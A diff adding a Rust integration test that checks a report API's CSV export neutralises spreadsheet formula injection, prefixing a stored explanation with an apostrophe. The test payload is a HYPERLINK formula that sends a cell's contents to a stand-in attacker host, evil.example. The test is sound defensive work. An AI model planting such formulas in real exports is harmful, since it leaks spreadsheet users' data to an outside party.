@@ -507,6 +507,26 @@ async fn the_report_carries_each_slipping_targets_explanation(backend: Backend) 
         row.contains(text) && row.contains("(hạn 20/12/2026)"),
         "{row}"
     );
+
+    // Text that a spreadsheet would run as a formula is written to the CSV as text.
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")"#;
+    let reply = post(&app, &health, &path(year, beds), &json!({ "text": formula })).await;
+    assert_eq!(reply.status, 201, "{reply:?}");
+    let csv = String::from_utf8(
+        fetch(
+            &app,
+            &format!("/api/v1/reports/{year}?format=csv&lang=en&history=latest"),
+        )
+        .await,
+    )
+    .expect("UTF-8");
+    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+    let record = reader
+        .records()
+        .map(|r| r.expect("record"))
+        .find(|r| &r[1] == beds)
+        .expect("the beds row");
+    assert_eq!(&record[at("Explanation")], format!("'{formula}"));
     app.stop().await;
 }
 
